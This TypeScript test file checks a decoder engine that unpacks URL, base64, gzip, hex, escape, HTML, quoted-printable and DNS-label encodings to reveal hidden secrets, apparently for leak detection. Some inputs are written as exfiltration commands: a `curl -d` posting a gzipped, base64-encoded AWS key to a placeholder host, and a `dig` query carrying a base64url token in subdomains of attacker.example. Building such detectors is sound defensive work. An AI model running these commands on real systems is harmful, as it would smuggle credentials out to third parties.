import { test } from 'node:test';
import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { ALL_DECODERS, views, type Decoder, decodeEscapes } from '../../src/engine/decoders.ts';

const SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCY1234abcd';
const dec = (name: string): Decoder => ALL_DECODERS.find((d) => d.name === name) as Decoder;
/** Does some view of `text` contain `want`, and through which decoders? */
function found(text: string, want: string): string[] | null {
  for (const v of views(text)) if (v.text.includes(want)) return v.via;
  return null;
}

test('percent: single and double URL encoding', () => {
  const once = encodeURIComponent(`k=${SECRET}&x=1`);
  assert.deepEqual(found(`https://x.example/?d=${once}`, SECRET), ['url']);
  assert.deepEqual(found(`https://x.example/?d=${encodeURIComponent(once)}`, SECRET), ['url', 'url']);
});

test('base64: standard, URL-safe, unpadded', () => {
  for (const enc of [
    Buffer.from(SECRET).toString('base64'),
    Buffer.from(SECRET).toString('base64url'),
    Buffer.from(SECRET).toString('base64').replace(/=+$/, ''),
  ]) {
    assert.deepEqual(found(`data=${enc}`, SECRET), ['base64'], enc);
  }
});

test('gzip+base64: a gzip stream in base64 is inflated', () => {
  const b64 = gzipSync(Buffer.from(`AWS_SECRET_ACCESS_KEY=${SECRET}\n`)).toString('base64');
  assert.ok(b64.startsWith('H4sI'));
  assert.deepEqual(found(`curl -d '${b64}' https://x.example`, SECRET), ['gzip+base64']);
  // wrapped at 76 columns like `base64` does by default
  const wrapped = (
    gzipSync(Buffer.from(SECRET.repeat(8)))
      .toString('base64')
      .match(/.{1,76}/g) as string[]
  ).join('\n');
  assert.ok(found(wrapped, SECRET));
});

test('gzip+base64: a bomb is bounded, garbage is ignored', () => {
  const bomb = gzipSync(Buffer.alloc(5_000_000, 0x41)).toString('base64');
  // gunzip stops at the budget (maxOutputLength) instead of inflating 5 MB: the bomb yields no view
  assert.equal(dec('gzip+base64').decode(bomb, 65536), null);
  const vs = views(bomb);
  assert.ok(!vs.some((v) => v.via.includes('gzip+base64')));
  for (const v of vs) assert.ok(v.text.length <= 4 * bomb.length + 65536);
  // below the budget the same kind of stream inflates, so the refusal above is the cap at work
  assert.equal(dec('gzip+base64').decode(gzipSync(Buffer.alloc(1000, 0x41)).toString('base64'), 65536), 'A'.repeat(1000));
  assert.equal(dec('gzip+base64').decode('H4sIZZZZZZZZZZZZZZZZZZZZZZZZ', 1000), null);
});

test('hex', () => {
  assert.deepEqual(found(Buffer.from(SECRET).toString('hex'), SECRET), ['hex']);
});

test('escapes: \\uXXXX, \\xHH, octal, JSON and shell escapes', () => {
  const u = [...SECRET].map((c) => '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('');
  assert.deepEqual(found(`'${u}'`, SECRET), ['escape']);
  const x = [...SECRET].map((c) => '\\x' + c.charCodeAt(0).toString(16).padStart(2, '0')).join('');
  assert.deepEqual(found(`printf '${x}'`, SECRET), ['escape']);
  const o = [...SECRET].map((c) => '\\' + c.charCodeAt(0).toString(8).padStart(3, '0')).join('');
  assert.deepEqual(found(`printf '${o}'`, SECRET), ['escape']);
  assert.equal(dec('escape').decode('{"a":"line1\\nline2 \\"q\\" \\u00e9 \\ud83d\\ude00 \\u{1F600}"}', 1e6), '{"a":"line1\nline2 "q" é 😀 😀"}');
  assert.equal(dec('escape').decode('\\xc3\\xa9', 100), 'é');
  assert.equal(dec('escape').decode('no escapes here', 100), null);
});

test('HTML entities: decimal, hex, named', () => {
  assert.deepEqual(found([...SECRET].map((c) => `&#${c.charCodeAt(0)};`).join(''), SECRET), ['html']);
  assert.deepEqual(found([...SECRET].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join(''), SECRET), ['html']);
  assert.equal(dec('html').decode('a &lt;b&gt; &amp;&quot;c&quot; &#39;d&#39; &unknown; &#X41;', 100), 'a <b> &"c" \'d\' &unknown; A');
});

test('quoted-printable: soft line breaks are joined, =HH decoded', () => {
  const card = '4539 1488 0343 6467';
  // a soft break inside the card number
  const qp = `Hello,=0D\r\nthe card is ${card.slice(0, 9)}=\r\n${card.slice(9)} exp 04/29, name Ren=C3=A9e`;
  const d = dec('quoted-printable').decode(qp, 1e6) as string;
  assert.ok(d.includes(card), d);
  assert.ok(d.includes('Renée'));
  assert.deepEqual(found(qp, card), ['quoted-printable']);
});

test('quoted-printable: the = of a URL parameter is no escape; the escapes after it still are', () => {
  // one pass decodes the %20 and the parameters together: `&balance=77.15` stays, not `&balancew.15`
  const url = 'https://lookup.invalid/find?name=Oskar%20Lindqvist&city=Tampere&balance=77.15&since=2026-12-01';
  assert.deepEqual(found(url, 'name=Oskar Lindqvist&city=Tampere&balance=77.15&since=2026-12-01'), ['url']);
  // a value that is quoted-printable after the parameter's own `=` is decoded
  assert.equal(dec('quoted-printable').decode('https://x.invalid/?k=41=42=43&q==44=45', 1e6), 'https://x.invalid/?k=41BC&q=DE');
});

test('dns labels: long labels are joined so base64url / hex decode whole', () => {
  const b = Buffer.from(`token=${SECRET}`).toString('base64url');
  const name = `${b.slice(0, 40)}.${b.slice(40)}.q.attacker.example`;
  const via = found(`dig +short ${name}`, SECRET);
  assert.deepEqual(via, ['dns-labels', 'base64']);
});

test('nested: base64 of URL-encoded text, escapes inside base64', () => {
  const inner = encodeURIComponent(`secret=${SECRET}&a=1 b`);
  assert.deepEqual(found(Buffer.from(inner).toString('base64'), SECRET), ['base64', 'url']);
  const esc = JSON.stringify({ v: `x\n${SECRET}` }).replace(/[A-Za-z]/g, (c) => '\\u00' + c.charCodeAt(0).toString(16));
  assert.ok(found(Buffer.from(esc).toString('base64'), SECRET));
});

test('bounded: depth, number of views and total size', () => {
  let s = SECRET;
  for (let i = 0; i < 6; i++) s = Buffer.from(s).toString('base64').replace(/=+$/, '') + '%41';
  const vs = views(s);
  assert.ok(vs.length <= 24);
  for (const v of vs) assert.ok(v.via.length <= 3);
  const big = 'a%20b+c=d&e=%41 '.repeat(2000);
  let total = 0;
  for (const v of views(big).slice(1)) total += v.text.length;
  assert.ok(total <= 4 * big.length + 65536);
});

test('plain text yields only itself', () => {
  assert.equal(views('npm test -- --grep "flow engine"').length, 1);
});

test('local decoders combine into one view: no explosion of near-identical views', () => {
  const mixed = JSON.stringify({ a: 'line\\none &amp; two', b: 'x =3D y=\r\nz %41%42 \\u0043' }).repeat(20);
  const vs = views(mixed);
  assert.ok(vs.length <= 4, vs.map((v) => v.via.join('>')).join(', '));
  assert.ok(vs.some((v) => v.via[0]?.includes('+')));
});

test('layered escaping is undone: \\\\u0052 (an escaped escape) and base64 of base64', () => {
  const dbl = [...SECRET].map((c) => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('');
  assert.ok(found(dbl, SECRET));
  assert.ok(found(Buffer.from(Buffer.from(SECRET).toString('base64')).toString('base64'), SECRET));
});

/** The escape decoder as one regex replace (its first form): the scanner must agree with it. */
const ESC_ALL = /(?:\\x[0-9a-fA-F]{2})+|(?:\\[0-3][0-7]{2})+|\\u\{([0-9a-fA-F]{1,6})\}|\\u([0-9a-fA-F]{4})|\\([nrtbfv0"'\\/`$])/g;
const SIMPLE: Record<string, string> = {
  n: '\n',
  r: '\r',
  t: '\t',
  b: '\b',
  f: '\f',
  v: '\v',
  '0': '\0',
  '"': '"',
  "'": "'",
  '\\': '\\',
  '/': '/',
  '`': '`',
  $: '$',
};
function bytesToText(b: Uint8Array): string {
  try {
    return new TextDecoder('utf-8', { fatal: true }).decode(b);
  } catch {
    return String.fromCharCode(...b);
  }
}
function decodeEscapesByRegex(s: string): string | null {
  const out = s.replace(ESC_ALL, (m, cp: string | undefined, u4: string | undefined, ch: string | undefined) => {
    if (ch !== undefined) return SIMPLE[ch] ?? m;
    if (u4 !== undefined) return String.fromCharCode(parseInt(u4, 16));
    if (cp !== undefined) {
      const n = parseInt(cp, 16);
      return n <= 0x10ffff ? String.fromCodePoint(n) : m;
    }
    const isHex = m[1] === 'x';
    const parts = isHex ? m.split('\\x').slice(1) : m.split('\\').slice(1);
    return bytesToText(Uint8Array.from(parts, (p) => parseInt(p, isHex ? 16 : 8) & 0xff));
  });
  return out === s ? null : out;
}

test('escape decoder: the one-pass scanner decodes exactly what the regex form does', () => {
  const atoms = [
    '\\',
    '\\\\',
    'x',
    'u',
    '{',
    '}',
    '0',
    '3',
    '4',
    '7',
    '8',
    'a',
    'F',
    'g',
    'n',
    '"',
    '/',
    '$',
    ' ',
    'é',
    '\\x4',
    '\\u00',
    '\\u{1F600}',
    '\\u{110000}',
    '\\xe2\\x82\\xac',
    '\\342\\202\\254',
    '\\ud83d\\ude00',
    '\\u{',
    '\\x',
    '\\u{1234567}',
  ];
  let x = 11;
  const r = (): number => {
    x = (Math.imul(x, 1103515245) + 12345) & 0x7fffffff;
    return x >>> 4;
  };
  for (let i = 0; i < 20000; i++) {
    let s = '';
    const len = r() % 12;
    for (let k = 0; k < len; k++) s += atoms[r() % atoms.length];
    assert.equal(decodeEscapes(s), decodeEscapesByRegex(s), JSON.stringify(s));
  }
  assert.equal(decodeEscapes('caf\\u00e9 \\xe2\\x82\\xac \\u{1F600} \\342\\202\\254 a\\tb \\q'), 'café € 😀 € a\tb \\q');
  assert.equal(decodeEscapes('nothing to do \\q'), null);
});
